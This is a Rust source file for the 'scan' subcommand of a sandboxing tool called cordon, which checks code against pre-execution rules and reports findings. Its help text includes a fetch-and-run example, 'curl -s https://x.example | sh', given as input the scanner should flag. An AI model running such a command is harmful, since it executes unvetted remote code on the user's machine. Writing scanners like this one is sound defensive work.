//! `cordon scan`: scan files, directories or standard input with the
//! pre-execution rules, without running anything.

use std::io::Read;
use std::path::PathBuf;

use anyhow::Context;
use clap::{Args, ValueEnum};
use cordon_codescan::{files_under, Language, ScanResult, Severity};
use cordon_policy::Profile;

use crate::scan_bridge;

#[derive(Debug, Args)]
#[command(
    after_help = "Exit status: 0 when no finding is at or above --fail-on (default: block); \
1 when one is; 125 when the scan itself failed (an unreadable path, a bad rule file).\n\n\
The scanner is advisory: a heuristic look before the sandbox, which is the control. A clean scan \
proves nothing.\n\n\
Examples:\n  cordon scan script.py\n  cordon scan --format sarif src/ > scan.sarif\n  \
cordon scan --json --fail-on warn tools/\n  echo 'curl -s https://x.example | sh' | cordon scan --lang bash -\n  \
cordon scan --profile profiles/api-client.toml agent_tool.py   # also: hosts the profile does not allow\n  \
cordon scan --rules my-rules.toml --ignore tls-verify-off src/\n  cordon scan --list-rules"
)]
pub struct ScanArgs {
    /// Files or directories to scan; `-` reads standard input (needs --lang).
    #[arg(value_name = "PATH", required_unless_present = "list_rules")]
    paths: Vec<PathBuf>,
    /// Language of the named files or of standard input: python, javascript, typescript, tsx, bash.
    #[arg(long, value_name = "LANG", value_parser = parse_lang)]
    lang: Option<Language>,
    /// Output: text (default), json or sarif (SARIF 2.1.0).
    #[arg(long, value_name = "FORMAT", default_value = "text")]
    format: Format,
    /// Same as --format json.
    #[arg(long, conflicts_with = "format")]
    json: bool,
    /// Exit 1 when a finding is at or above this severity: info, warn, block, or never.
    #[arg(long = "fail-on", value_name = "LEVEL", default_value = "block")]
    fail_on: FailOn,
    /// Show only findings at or above this severity (info, warn, block).
    #[arg(long = "min-severity", value_name = "LEVEL", default_value = "info", value_parser = parse_severity)]
    min_severity: Severity,
    /// Add the rules of this file (TOML; repeatable). A rule with an existing id replaces it.
    #[arg(long = "rules", value_name = "FILE")]
    rules: Vec<PathBuf>,
    /// Leave out the rule with this id (repeatable).
    #[arg(long, value_name = "RULE")]
    ignore: Vec<String>,
    /// Profile whose [scan] settings and network rules apply (hosts it does not allow are findings).
    #[arg(long, short = 'p', value_name = "FILE")]
    profile: Option<PathBuf>,
    /// Allow a host for the hosts check (repeatable; implies checking hosts).
    #[arg(long = "allow-net", value_name = "HOST")]
    allow_net: Vec<cordon_policy::HostPattern>,
    /// Print the rules (id, severity, message) and exit.
    #[arg(long = "list-rules")]
    list_rules: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Format {
    Text,
    Json,
    Sarif,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum FailOn {
    Info,
    Warn,
    Block,
    Never,
}

fn parse_lang(s: &str) -> Result<Language, String> {
    s.parse()
}

fn parse_severity(s: &str) -> Result<Severity, String> {
    s.parse()
}

pub fn run(args: ScanArgs) -> anyhow::Result<u8> {
    let profile = match &args.profile {
        Some(path) => Some(Profile::load(path).map_err(|e| anyhow::anyhow!("{e}"))?),
        None if !args.allow_net.is_empty() => Some(Profile::default()),
        None => None,
    };
    let profile = match profile {
        Some(p) if !args.allow_net.is_empty() => Some(
            p.with_overrides(&cordon_policy::Overrides {
                allow_hosts: args.allow_net.clone(),
                ..Default::default()
            })
            .map_err(|e| anyhow::anyhow!("{e}"))?,
        ),
        other => other,
    };
    let (mut extra, mut ignore) = (args.rules.clone(), args.ignore.clone());
    if let Some(p) = &profile {
        extra.extend(scan_bridge::profile_rule_files(p));
        ignore.extend(p.scan.ignore.iter().cloned());
    }
    let scanner = scan_bridge::scanner(&extra, &ignore)?;
    if args.list_rules {
        return list_rules(&extra, &ignore, args.json || args.format == Format::Json);
    }

    let mut result = ScanResult::default();
    let mut files = 0usize;
    for path in &args.paths {
        if path.as_os_str() == "-" {
            let lang = args
                .lang
                .context("standard input needs --lang (python, javascript, typescript, bash)")?;
            let mut text = String::new();
            std::io::stdin()
                .read_to_string(&mut text)
                .context("cannot read standard input as UTF-8 text")?;
            result.extend(scanner.scan("<stdin>", lang, &text)?);
            files += 1;
            continue;
        }
        for file in files_under(path, args.lang)? {
            let Ok(text) = std::fs::read_to_string(&file.path) else {
                // Not UTF-8 (or vanished): nothing the parsers can read.
                continue;
            };
            let name = file.path.display().to_string();
            result.extend(scanner.scan(&name, file.language, &text)?);
            files += 1;
        }
    }
    if let Some(p) = &profile {
        let hosts = scan_bridge::host_findings(&scanner, &result.hosts, p);
        result.findings.extend(hosts);
    }
    result.findings.retain(|f| f.severity >= args.min_severity);

    let format = if args.json { Format::Json } else { args.format };
    match format {
        Format::Text => print_text(&result, files),
        Format::Json => {
            let (block, warn, info) = scan_bridge::counts(&result.findings);
            let doc = serde_json::json!({
                "files": files,
                "counts": { "block": block, "warn": warn, "info": info },
                "findings": result.findings,
                "hosts": result.hosts,
                "advisory": ADVISORY,
            });
            out(&serde_json::to_string_pretty(&doc)?);
        }
        Format::Sarif => {
            let pack_rules = scan_bridge::rule_infos(&extra, &ignore)?;
            let doc = cordon_codescan::sarif::document(
                "cordon",
                env!("CARGO_PKG_VERSION"),
                &pack_rules,
                &result.findings,
            );
            out(&serde_json::to_string_pretty(&doc)?);
        }
    }
    let threshold = match args.fail_on {
        FailOn::Info => Some(Severity::Info),
        FailOn::Warn => Some(Severity::Warn),
        FailOn::Block => Some(Severity::Block),
        FailOn::Never => None,
    };
    let failed = threshold.is_some_and(|t| result.findings.iter().any(|f| f.severity >= t));
    Ok(u8::from(failed))
}

/// One line to standard output; a reader that went away (`| head`) is not
/// an error worth a panic.
fn out(line: &str) {
    use std::io::Write;
    let _ = writeln!(std::io::stdout().lock(), "{line}");
}

const ADVISORY: &str =
    "the scanner is advisory: a heuristic look before the sandbox, which is the control";

fn print_text(result: &ScanResult, files: usize) {
    for f in &result.findings {
        out(&scan_bridge::render(f, true));
    }
    let (block, warn, info) = scan_bridge::counts(&result.findings);
    eprintln!(
        "cordon scan: {} finding(s) ({block} block, {warn} warn, {info} info) in {files} file(s); {ADVISORY}",
        result.findings.len()
    );
}

fn list_rules(extra: &[PathBuf], ignore: &[String], json: bool) -> anyhow::Result<u8> {
    let rules = scan_bridge::rule_infos(extra, ignore)?;
    if json {
        out(&serde_json::to_string_pretty(&rules)?);
    } else {
        for r in rules {
            out(&format!("{:<24} {:<5} {}", r.id, r.severity, r.message));
        }
    }
    Ok(0)
}
